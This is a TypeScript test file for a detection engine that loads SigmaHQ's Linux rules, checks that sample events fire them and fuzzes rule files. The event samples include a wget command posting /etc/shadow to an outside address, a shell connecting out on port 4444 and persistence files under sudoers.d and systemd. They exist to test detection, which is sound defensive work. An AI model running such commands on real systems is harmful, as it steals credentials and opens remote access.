import { array, assert, constantFrom, nat, property, tuple } from "fast-check";
import { describe, expect, test } from "vitest";
import { instant } from "@provost/shared/model/ids.ts";
import type { Observed, ObservedConnection, ObservedProcess } from "@provost/shared/model/observed.ts";
import { openEngine } from "../../server/detection/engine.ts";
import { linuxEvents } from "../../server/detection/sigma/fields/linux.ts";
import { readRuleFolder } from "../../server/detection/sigma/folder.ts";
import { lintRules } from "../../server/detection/sigma/lint.ts";
import { loadRules } from "../../server/detection/sigma/rule-set.ts";
import { haveSigma, sigmaExamples, sigmaLinux, sigmaPairs, sigmaVectors } from "../conformance/sigma.ts";

type Without<T, K extends PropertyKey> = T extends unknown ? Omit<T, K> : never;
type Happened = Without<Observed, "id" | "at" | "host" | "actor">;

const somebody: ObservedProcess = {
  pid: 2,
  startedAt: "1",
  executable: "/bin/true",
  arguments: ["true"],
  uid: 1000,
  gid: 1000,
  name: "true",
};

function end(address: string, port: number): ObservedConnection["local"] {
  return { address, port };
}

describe.skipIf(!haveSigma())("what SigmaHQ publishes (skipped without PROVOST_VECTORS)", () => {
  test("each of its 202 pairs of rule and event matches", async () => {
    const { total, unexpected } = await sigmaPairs();
    expect({ total, unexpected }).toEqual({ total: 202, unexpected: [] });
  }, 60_000);

  test("all of its 248 rules for Linux load, each with its author", () => {
    const { set } = sigmaLinux();
    expect(set.problems).toEqual([]);
    expect(set.rules).toHaveLength(248);
    expect(set.rules.filter(({ facts }) => facts.author === undefined).map(({ facts }) => facts.title)).toEqual([]);
  });

  test("two of them can never fire, and those that wait for logs which no device sends are named", () => {
    const { found } = sigmaLinux();
    const never = found.filter(({ kind }) => kind === "never");
    expect(never.map(({ title, why }) => [title, why])).toEqual([
      ["Apache Spark Shell Command Injection - ProcessCreation", String.raw`no path on Linux can be "*\bash"`],
      ["Shai-Hulud 2.0 Malicious NPM Package Installation - Linux", String.raw`no path on Linux can be "*\node"`],
    ]);
    const unfed = found.filter(({ kind }) => kind === "unfed").map(({ why }) => why);
    expect(unfed).toHaveLength(18);
    expect(
      unfed.filter(
        (why) => !/logsource linux \/ |a SYSCALL that is|the field key|type that is "SERVICE_STOP"/.test(why),
      ),
    ).toEqual([]);
  });

  test.each<[string, Partial<ObservedProcess>, Happened, string]>([
    [
      "a file posted with wget",
      { executable: "/usr/bin/wget", arguments: ["wget", "--post-file=/etc/shadow", "192.0.2.1"] },
      { kind: "exec" },
      "Data Exfiltration with Wget",
    ],
    [
      "a web server's user that starts a program",
      { executable: "/usr/bin/id", arguments: ["id"], uid: 33 },
      { kind: "exec" },
      "Webshell Remote Command Execution",
    ],
    [
      "a shell that connects to the outside",
      { executable: "/usr/bin/bash", arguments: ["bash"] },
      {
        kind: "connection",
        protocol: "tcp",
        initiated: true,
        local: end("10.0.0.2", 40_000),
        remote: end("192.0.2.1", 4444),
      },
      "Linux Reverse Shell Indicator",
    ],
    [
      "the same to a known port",
      { executable: "/opt/x", arguments: ["x"] },
      {
        kind: "connection",
        protocol: "tcp",
        initiated: true,
        local: end("10.0.0.2", 40_000),
        remote: end("192.0.2.1", 4444),
      },
      "Potentially Suspicious Malware Callback Communication - Linux",
    ],
    [
      "a new file of sudo's",
      { executable: "/usr/bin/cp", arguments: ["cp"] },
      { kind: "file", change: "created", path: "/etc/sudoers.d/x" },
      "Persistence Via Sudoers.d Files",
    ],
    [
      "a unit of systemd's",
      { executable: "/usr/bin/cp", arguments: ["cp"] },
      { kind: "file", change: "created", path: "/etc/systemd/system/x.service" },
      "Systemd Service Creation",
    ],
  ])("what a device saw fires SigmaHQ's rule: %s", (_name, actor, happened, title) => {
    const engine = openEngine(sigmaLinux().set);
    const found = linuxEvents({
      ...happened,
      id: "e",
      at: instant(0),
      host: "h",
      actor: { ...somebody, ...actor },
    }).flatMap((event) => [...engine.feed(event)]);
    expect(found.map(({ rule }) => rule.title)).toContain(title);
    expect(found.filter(({ rule }) => rule.author === undefined)).toEqual([]);
  });

  test("a rule that was changed anywhere is read or refused, and never breaks the engine", () => {
    const { files } = readRuleFolder(sigmaVectors("linux-rules"));
    const pieces = [
      "|re",
      "|all",
      "|cidr",
      "|expand",
      "|fieldref",
      "|hour",
      "null",
      "[]",
      "{}",
      "*",
      "\\",
      "'",
      "not ",
      "(",
      ": ",
      "\n",
      "&a ",
      "*a",
      "\u0000",
    ];
    const change = tuple(nat(), nat(), nat({ max: 12 }), constantFrom(...pieces));
    assert(
      property(nat(), array(change, { minLength: 1, maxLength: 3 }), (number, changes) => {
        let text = files[number % files.length]?.text ?? "";
        for (const [at, way, cut, piece] of changes) {
          const place = at % (text.length + 1);
          text = text.slice(0, place) + (way % 2 === 0 ? piece : "") + text.slice(place + (way % 2 === 0 ? 0 : cut));
        }
        const set = loadRules([{ path: "changed.yml", text }], new Map());
        expect(lintRules(set).every(({ why, line }) => why !== "" && line >= 1)).toBe(true);
        openEngine(set).feed({ id: "e", at: 0, source: { product: "linux" }, fields: { CommandLine: "x", a1: "y" } });
      }),
      { numRuns: 300 },
    );
  });

  test("the specification's examples are read; those in another taxonomy, or apart from their rules, say so", () => {
    const examples = sigmaExamples();
    expect(examples.length).toBeGreaterThan(10);
    expect(examples.filter(([, why]) => !/^read$|taxonomy "ecs"|rules that are not here/.test(why))).toEqual([]);
  });
});
